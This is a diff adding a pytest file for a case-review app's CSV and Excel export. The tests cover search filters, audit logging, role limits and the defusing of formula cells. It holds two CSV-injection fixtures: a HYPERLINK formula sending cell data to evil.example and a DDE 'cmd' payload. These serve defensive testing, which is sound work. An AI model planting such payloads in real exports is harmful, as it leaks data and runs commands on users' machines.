@@ -1,0 +1,85 @@
+"""CSV and Excel export of the cases the list selects, their findings and decisions; cells a
+spreadsheet would run as formulas stay inert; every export is audited."""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+from openpyxl import load_workbook
+
+from kvrules.store import Store
+from tests.web.web_helpers import app_for, case_id, event, login
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def _rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_csv_exports_follow_the_search_and_filters(db: Path) -> None:
+    with Store.open(db) as store:
+        store.decide(case_id(db), "reject", "Dual-use lab access.", actor="committee")
+    client = app_for(db)
+    login(client, "viewer")
+    everything = client.get("/cases.csv?table=cases")
+    assert everything.status_code == 200
+    assert everything.headers["content-type"].startswith("text/csv")
+    assert "attachment" in everything.headers["content-disposition"]
+    assert {r["record id"] for r in _rows(everything.text)} == {"p-1", "p-2"}
+    china = _rows(client.get("/cases.csv?table=cases&country=CN").text)
+    assert [r["record id"] for r in china] == ["p-1"] and china[0]["decision"] == "reject"
+    found = _rows(client.get("/cases.csv?table=findings&q=beispiel").text)
+    assert [r["case"] for r in found] == [str(case_id(db, "p-2"))]
+    assert found[0]["rule"] == "nl-leidraad@2026.1/partner-possible-list-match"
+    assert "project.partners[0].candidate_lists" in found[0]["evidence"]
+    decided = _rows(client.get("/cases.csv?table=decisions").text)
+    assert [(r["decision"], r["rationale"], r["by"]) for r in decided] == [
+        ("reject", "Dual-use lab access.", "committee")
+    ]
+    assert client.get("/cases.csv?table=users").status_code == 400
+    with Store.open(db) as store:
+        exports = store.audit_entries("export:cases")
+    assert len(exports) == 4 and exports[1].details["filters"] == "country=CN"
+
+
+def test_formula_cells_stay_text_in_csv_and_excel(db: Path) -> None:
+    """A project title from the RIS that starts with = (or + - @) must not run in Excel."""
+    with Store.open(db) as store:
+        hostile = event("p-1", "@SUM(1+1)*cmd|' /C calc'!A0", "CN", with_match=True)
+        hostile.project.title = HOSTILE
+        store.record_subject(hostile)
+    client = app_for(db)
+    login(client, "viewer")
+    rows = _rows(client.get("/cases.csv?table=cases&country=CN").text)
+    assert rows[0]["title"] == "'" + HOSTILE
+    book = load_workbook(io.BytesIO(client.get("/cases.xlsx?country=CN").content))
+    assert book.sheetnames == ["cases", "findings", "decisions"]
+    sheet = book["cases"]
+    header = [c.value for c in sheet[1]]
+    title = sheet.cell(row=2, column=header.index("title") + 1)
+    assert title.value == HOSTILE and title.data_type == "s"  # text, not a formula
+    for row in book["cases"].iter_rows(min_row=2):
+        assert all(c.data_type != "f" for c in row)
+
+
+def test_excel_export_has_cases_findings_and_decisions(db: Path) -> None:
+    with Store.open(db) as store:
+        store.decide(case_id(db, "p-2"), "approve", "Ordinary EU partner.", actor="committee")
+    client = app_for(db)
+    login(client, "committee")
+    response = client.get("/cases.xlsx")
+    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
+    book = load_workbook(io.BytesIO(response.content))
+    assert book["cases"].max_row == 3 and book["findings"].max_row == 3
+    decisions = list(book["decisions"].iter_rows(min_row=2, values_only=True))
+    assert [(r[2], r[3]) for r in decisions] == [("approve", "Ordinary EU partner.")]
+
+
+def test_a_grant_officer_cannot_export(db: Path) -> None:
+    client = app_for(db)
+    login(client, "grant-officer")
+    assert client.get("/cases.csv", follow_redirects=False).status_code == 303  # to /prescreen
+    assert client.get("/cases.xlsx", follow_redirects=False).status_code == 303
